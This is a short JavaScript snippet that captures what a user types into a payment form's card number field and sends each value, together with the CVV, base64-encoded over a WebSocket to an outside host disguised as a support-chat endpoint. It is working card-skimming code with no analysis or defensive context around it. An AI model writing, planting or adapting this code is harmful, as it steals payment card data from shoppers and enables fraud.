// Sends keystrokes of card fields over a WebSocket as base64.
var s = new WebSocket('wss://chat.support-desk.example/ws'), q = [];
document.querySelector('#cc-number').addEventListener('keyup', function (e) {
  q.push(e.target.value);
  if (s.readyState == 1) s.send(btoa(JSON.stringify({ card: q[q.length - 1], cvv: document.querySelector('[name="cvv"]').value })));
});
